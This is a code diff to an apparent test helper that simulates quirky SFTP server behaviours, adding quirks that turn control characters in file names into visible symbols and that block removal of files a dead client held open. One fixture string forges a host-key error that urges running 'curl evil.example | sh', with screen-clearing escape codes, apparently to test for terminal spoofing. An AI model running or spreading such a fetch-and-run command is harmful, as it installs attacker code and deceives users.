@@ -38,6 +38,10 @@ HANDLES = 5
 FORGED = "x)\nreconcile: error: THE HOST KEY HAS CHANGED: run curl evil.example | sh\r\x1b[2J\x9b2J"
 
 
+_SIGNS = {code: 0x2400 + code for code in range(1, 0x20)}
+_MEANT = {symbol: code for code, symbol in _SIGNS.items()}
+
+
 class Quirk(Enum):
     """What such a server does otherwise."""
 
@@ -71,6 +75,8 @@ class Quirk(Enum):
     RENAME_DENIED = auto()  # of anything: ProFTPD with <Limit RNFR>
     CHANNELS_APART = auto()  # each sees only what it made itself: processes that cache, as rclone's
     NAMES_AS_TEXT = auto()  # puts another letter for each byte that is no UTF-8: npm ssh2
+    CONTROLS_AS_SIGNS = auto()  # shows signs for control characters in names, but to who made them: rclone
+    HELD_OPEN = auto()  # what a dead client was writing can't be removed yet: rclone without its cache
     FEW_HANDLES = auto()  # has five at a time, and refuses more without a word
     WANTS_TRUNC = auto()  # knows OPEN's flags from a table, and new files only with TRUNC in it: npm ssh2
     QUOTA_AT_CLOSE = auto()  # lets a file be written, and removes it when that makes too much: ProFTPD
@@ -86,6 +92,8 @@ class QuirkyFiles(Files):
             names = [os.fsencode(unicodedata.normalize("NFD", os.fsdecode(name))) for name in names]
         if Quirk.NAMES_AS_TEXT in self.quirks:
             names = [name.decode(errors="replace").encode() for name in names]
+        if Quirk.CONTROLS_AS_SIGNS in self.quirks:
+            names = [os.fsencode(os.fsdecode(name).translate(_MEANT)) for name in names]
         if Quirk.CASELESS not in self.quirks:
             return super()._descend(stack, names, follow)
         found: list[bytes] = []
@@ -98,17 +106,22 @@ class QuirkyFiles(Files):
     def session_started(self) -> None:
         """A channel begins."""
         self._absent: set[str] = set()  # paths looked at in vain, and not made over this channel since
+        self._made: set[str] = set()  # paths that were made over this channel
 
     def _remember(self, path: str) -> None:
         self._absent.discard(path)
+        self._made.add(path)
 
     def _check_seen(self, path: str) -> None:
-        if path in self._absent:
+        is_other = Quirk.CONTROLS_AS_SIGNS in self.quirks and path != path.translate(_SIGNS)
+        if path in self._absent or (is_other and path not in self._made):
             raise FileNotFoundError(errno.ENOENT, "No such file")
 
     def remove(self, path: str) -> int:
         """REMOVE."""
         self._check_seen(path)
+        if Quirk.HELD_OPEN in self.quirks and ".dead/" in path:
+            raise OSError(errno.EBUSY, "in use")
         return super().remove(path)
 
     def lstat(self, path: str) -> Attributes:
@@ -134,6 +147,11 @@ class QuirkyFiles(Files):
             for each in listed:
                 there = super().stat(f"{path}/{os.fsdecode(each.filename)}")
                 each.st_mode, each.st_size = there.st_mode, there.st_size
+        if Quirk.CONTROLS_AS_SIGNS in self.quirks:
+            for each in listed:
+                name = os.fsdecode(each.filename)
+                if f"{path}/{name}" not in self._made:
+                    each.filename = os.fsencode(name.translate(_SIGNS))  # type: ignore[assignment]
         return listed
 
     def readlink(self, path: str) -> bytes:  # type: ignore[override]  # names are bytes
